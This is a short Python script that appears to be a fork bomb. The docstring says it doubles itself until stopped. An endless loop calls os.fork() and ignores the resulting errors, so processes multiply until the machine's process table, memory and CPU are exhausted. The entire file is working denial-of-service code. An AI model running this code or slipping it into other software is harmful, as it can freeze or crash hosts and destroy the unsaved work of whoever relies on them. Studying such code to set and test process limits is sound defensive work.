"""Doubles itself until it is stopped."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
